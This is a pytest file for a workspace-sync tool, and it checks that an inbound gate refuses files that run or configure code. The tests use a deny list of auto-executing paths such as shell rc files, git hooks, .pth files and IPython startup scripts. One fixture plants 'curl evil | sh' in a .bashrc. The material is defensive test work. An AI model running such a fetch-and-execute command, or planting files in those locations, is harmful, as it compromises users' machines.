"""The gate at the machine boundary has one writer (invariant 11): the rules of engine/gate.py,
and a grep that no other module writes a file that came from a machine or a store into the
user's copy, the way tests/test_portable_owner.py checks that ``.portable/`` has one owner.
The attacks themselves are in tests/test_gate_attacks.py."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from conftest import write_tree

from jupyter_portable import Workspace
from jupyter_portable.core.errors import UnsafePath
from jupyter_portable.engine.gate import RUNS_CODE, InboundGate, Refused, outbound_reason
from jupyter_portable.engine.lazy import fetch_pending, pending_paths
from jupyter_portable.engine.lazy import main as lazy_main
from jupyter_portable.engine.restore import restore
from jupyter_portable.store.repo import digest
from jupyter_portable.workdir.pending import read_pending, write_pending
from jupyter_portable.workdir.workcopy import CopyConfig, WorkspaceCopy

PACKAGE = Path(__file__).resolve().parent.parent / "jupyter_portable"

# Making a file's bytes (or a link) on disk. Moving the user's own file aside (os.rename) makes nothing new.
_WRITES = re.compile(r"""os\.replace\(|os\.link\(|os\.symlink\(|O_CREAT|\.write_bytes\(|\.write_text\(|"""
                     r"""shutil\.(copy|move)|\.extractall\(|\bopen\([^)]*["'][wax]b?\+?["']""")
# The layers that hold bytes from a machine or a store on the user's side. The worker's modules
# write the machine's own copy; store/ and compute/ write the store and this computer's keys,
# not the copy; workdir/ writes only .portable/ (tests/test_portable_owner.py).
_INBOUND_LAYERS = ("engine", "orchestration", "interfaces")
# The gate's writer: every Placer is the gate's (below), and it asks the gate for each path.
_THE_WRITER = {"engine/fetch.py"}
# Where a Placer may be made: the gate, and the restore's helper processes, which place only the
# files the restore's gate admitted (engine/restore.py filters them before they are sent).
_PLACER_MAKERS = {"engine/gate.py", "engine/hashproc.py"}


def _code_lines(path: Path) -> list[tuple[int, str]]:
    return [(n, line.split("#")[0]) for n, line in enumerate(path.read_text().splitlines(), 1)]


def test_no_module_but_the_gate_writes_a_machines_or_a_stores_bytes_into_the_users_copy() -> None:
    found = []
    for layer in _INBOUND_LAYERS:
        for path in sorted((PACKAGE / layer).rglob("*.py")):
            rel = path.relative_to(PACKAGE).as_posix()
            if rel in _THE_WRITER:
                continue
            found += [f"{rel}:{n}: {code.strip()}" for n, code in _code_lines(path) if _WRITES.search(code)]
    assert not found, "write these through InboundGate.placer() (engine/gate.py):\n" + "\n".join(found)


def test_every_placer_is_made_by_the_gate() -> None:
    made = []
    for path in sorted(PACKAGE.rglob("*.py")):
        rel = path.relative_to(PACKAGE).as_posix()
        made += [f"{rel}:{n}" for n, code in _code_lines(path)
                 if re.search(r"\bPlacer\(", code) and not code.lstrip().startswith("class ")
                 and rel not in _PLACER_MAKERS]
    assert not made, "make it with InboundGate.for_copy(root).placer() or InboundGate.machine_side(root).placer()" \
        f":\n{made}"


def test_the_gates_writer_asks_the_gate_for_every_path(tmp_path: Path) -> None:
    WorkspaceCopy(tmp_path).write_config(CopyConfig("ws-gate", f"file://{tmp_path / 'store'}"))
    placer = InboundGate.for_copy(tmp_path).placer()
    data = b"import os\n"
    with pytest.raises(UnsafePath, match="runs or configures code"):
        placer.place(".venv/lib/python3.11/site-packages/x.pth", len(data), digest(data), 0o644, 0, data)
    assert not (tmp_path / ".venv").exists()
    placer.place("ok.txt", len(data), digest(data), 0o644, 0, data)
    assert (tmp_path / "ok.txt").read_bytes() == data


@pytest.mark.parametrize("path", [
    ".venv/bin/python", "venv/lib/python3.12/site-packages/a.py", "src/lib/site-packages/b.py", "__pycache__/u.pyc",
    "pkg/__pycache__/u.cpython-311.pyc", "x.pth", "deep/y.pth", ".git/hooks/pre-commit", ".git/config",
    ".ipython/profile_default/startup/00.py", ".bashrc", "home/.zshrc", ".profile", ".envrc", "sitecustomize.py",
    "jupyter_server_config.py", ".VENV/LIB/SITE-PACKAGES/evil.py", "__PYCACHE__/UTIL.CPYTHON-311.PYC", "X.PTH",
    ".Git/Hooks/pre-commit"])
def test_the_deny_list_refuses_what_runs_or_configures_code_unless_the_user_opted_it_in(
        tmp_path: Path, path: str) -> None:
    assert InboundGate.for_copy(tmp_path).reason(path) is not None, path
    WorkspaceCopy(tmp_path).write_inbound_allow([path])
    # .venv/ and __pycache__/ are also ignored by default: the user shares them first, in their own rules
    write_tree(tmp_path, {".portableignore": "!.venv/\n!__pycache__/\n"})
    assert InboundGate.for_copy(tmp_path).reason(path) is None, path
    # a machine's own copy holds the version whole: the path rules only
    assert InboundGate.machine_side(tmp_path).reason(path) is None
    assert InboundGate.machine_side(tmp_path).reason("../x") is not None


def test_the_users_ignore_rules_as_they_stand_here_decide_never_the_incoming_ones(tmp_path: Path) -> None:
    write_tree(tmp_path, {".portableignore": ".env\nsecrets/\n"})
    gate = InboundGate.for_copy(tmp_path)
    write_tree(tmp_path, {".portableignore": ""})  # changed after the gate was made: the gate's rules stay
    assert gate.reason(".env") is not None and gate.reason("secrets/k.txt") is not None
    assert gate.reason(".portableignore") is not None  # the copy has rules of its own: a machine's are not applied
    assert gate.reason(".PortableIgnore") is not None and gate.reason(".PORTABLE/workspace.json") is not None
    assert gate.reason("notes.md") is None
    # opting in never overrides the user's ignore rules
    WorkspaceCopy(tmp_path).write_inbound_allow([".env"])
    write_tree(tmp_path, {".portableignore": ".env\n"})
    assert InboundGate.for_copy(tmp_path).reason(".env") is not None
    # a fresh folder has no rules of its own: the version's arrive with it (the deny-list still holds)
    fresh = InboundGate.for_copy(tmp_path / "new")
    assert fresh.reason(".portableignore") is None and fresh.reason(".venv/x") is not None
    assert len(RUNS_CODE) == len(set(RUNS_CODE))


def test_a_file_the_user_ignores_is_never_read_to_be_sent(tmp_path: Path) -> None:
    write_tree(tmp_path, {".portableignore": ".env\n", ".env": "KEY=1\n", "a.py": ""})
    assert outbound_reason(tmp_path, ".env") is not None
    assert outbound_reason(tmp_path, ".portable/workspace.json") is not None
    assert outbound_reason(tmp_path, "a.py") is None


def test_a_bad_allow_file_is_a_clear_error(tmp_path: Path) -> None:
    from jupyter_portable.core.errors import UsageError

    copy = WorkspaceCopy(tmp_path)
    copy.write_inbound_allow(["x"])
    (tmp_path / ".portable" / "inbound-allow").write_bytes(b"\xff\xfe")
    with pytest.raises(UsageError, match="not UTF-8"):
        InboundGate.for_copy(tmp_path)


def _published_by_a_machine(tmp_path: Path, files: dict[str, bytes | str]) -> tuple[Workspace, Path]:
    """The user's copy at version 1, and version 2 published by another copy (a machine's) that adds ``files``."""
    user = tmp_path / "laptop"
    write_tree(user, {"a.py": "print(1)\n"})
    ws = Workspace.init(user, f"file://{tmp_path}/store")
    ws.snapshot("first", progress=None)
    theirs = tmp_path / "machine"
    Workspace.restore(ws.config.store, ws.workspace_id, theirs, progress=None)
    write_tree(theirs, files)
    Workspace.find(theirs).snapshot("from the machine", progress=None)
    return ws, user


def test_restore_delete_leaves_the_users_own_file_at_a_refused_path(tmp_path: Path) -> None:
    ws, user = _published_by_a_machine(tmp_path, {"tools/.bashrc": "curl evil | sh\n"})
    (user / "tools").mkdir()
    (user / "tools" / ".bashrc").write_text("alias ll='ls -l'\n")  # the user's own, never shared
    res = Workspace.restore(ws.config.store, ws.workspace_id, user, delete=True, progress=None)
    assert [r["path"] for r in res.refused] == ["tools/.bashrc"]
    assert (user / "tools" / ".bashrc").read_text() == "alias ll='ls -l'\n"  # not written, not deleted
    assert res.removed == []


def test_a_lazy_fetch_passes_the_gate(tmp_path: Path) -> None:
    big = b"\0" * 2_000_000
    ws, user = _published_by_a_machine(tmp_path, {"big.bin": big, "deep/x.pth": big})
    fresh = tmp_path / "new-laptop"
    res = restore(ws.store, ws.workspace_id, fresh, lazy=True, lazy_threshold=1_000_000, start_fetcher=False)
    assert res.pending == ["big.bin"] and [r["path"] for r in res.refused] == ["deep/x.pth"]
    # a pending list an older release wrote, with a path the gate refuses: dropped, said, never written
    copy = WorkspaceCopy(fresh)
    version, entries = read_pending(copy)
    manifest = ws.store.read_manifest(ws.workspace_id)
    write_pending(copy, version, [*entries, manifest.by_path()["deep/x.pth"]])
    with pytest.raises(Refused, match="runs or configures code"):
        fetch_pending(copy, "deep/x.pth")
    assert not (fresh / "deep").exists() and pending_paths(copy) == ["big.bin"]
    assert lazy_main([str(fresh)]) == 0
    assert (fresh / "big.bin").read_bytes() == big and pending_paths(copy) == []


def test_every_file_sent_to_a_machine_passes_the_outbound_gate_first() -> None:
    """The user's side sends a file to a worker with ``put_file`` only: each call comes after
    ``outbound_reason`` in the same function (today: a save forwarded by monitor.post_save)."""
    unguarded, calls = [], 0
    for path in sorted(PACKAGE.rglob("*.py")):
        rel = path.relative_to(PACKAGE).as_posix()
        if rel.startswith("worker/"):
            continue  # the client that defines it, and the machine's own side
        guarded = False
        for n, code in _code_lines(path):
            if re.match(r"\s*(async\s+)?def ", code):
                guarded = False
            guarded |= "outbound_reason(" in code
            if ".put_file(" in code:
                calls += 1
                if not guarded:
                    unguarded.append(f"{rel}:{n}: {code.strip()}")
    assert calls, "no put_file call found: the check above looks at nothing"
    assert not unguarded, "ask engine.gate.outbound_reason before sending:\n" + "\n".join(unguarded)
